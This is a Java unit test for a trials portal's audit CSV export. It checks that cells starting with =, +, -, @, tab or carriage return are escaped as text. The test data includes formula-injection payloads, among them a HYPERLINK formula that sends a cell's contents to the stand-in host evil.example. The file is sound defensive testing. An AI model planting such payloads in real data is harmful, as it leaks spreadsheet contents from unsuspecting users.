package org.opentrials.portal.services.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.opentrials.portal.domain.staff.Role;
import org.opentrials.portal.services.persistence.TestDatabase;

/** The CSV export: what staff typed reaches a spreadsheet as text, never as a formula. */
class AuditCsvTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil.example\",\"Click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tcmd",
        "\rcmd"
      })
  void aCellAFormulaCouldStartWithIsDefused(String typed) {
    assertThat(AuditCsv.cell(typed)).startsWith("\"'");
  }

  @Test
  void ordinaryCellsAreQuotedAndQuotesDoubled() {
    assertThat(AuditCsv.cell("Cedars-Sinai \"main\" campus"))
        .isEqualTo("\"Cedars-Sinai \"\"main\"\" campus\"");
    assertThat(AuditCsv.cell(null)).isEqualTo("\"\"");
    assertThat(AuditCsv.cell("")).isEqualTo("\"\"");
    assertThat(AuditCsv.cell("line one\nline two")).isEqualTo("\"line one\nline two\"");
  }

  @Test
  void theExportCarriesAHyperlinkFormulaAsText() throws Exception {
    Clock clock = Clock.fixed(Instant.parse("2026-03-04T05:06:07Z"), ZoneOffset.UTC);
    try (TestDatabase db = new TestDatabase()) {
      StringWriter csv = new StringWriter();
      db.inTransaction(
          em -> {
            AuditFixtures.account(em, "admin.test", Role.ADMINISTRATOR);
            AuditTrailService trail = AuditFixtures.trail(em, "admin.test", clock);
            trail.record(
                AuditFixtures.update(
                    "investigator.test",
                    "NCT02633163/cedars-sinai",
                    "contactName",
                    "Bonnie Paul",
                    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bonnie\")",
                    "@reason"));
            try {
              trail.exportCsv(AuditFilter.ALL, csv);
            } catch (java.io.IOException e) {
              throw new java.io.UncheckedIOException(e);
            }
          });
      String[] lines = csv.toString().split("\r\n");
      assertThat(lines).hasSize(2);
      assertThat(lines[0]).startsWith("\"id\",\"occurred_at_utc\",\"actor\"");
      assertThat(lines[1])
          .startsWith(
              "\"1\",\"2026-03-04T05:06:07Z\",\"investigator.test\",\"INVESTIGATOR\",\"UPDATE\"")
          .contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bonnie\"\")\",")
          .contains(",\"'@reason\",")
          .doesNotContain(",\"=");
    }
  }
}
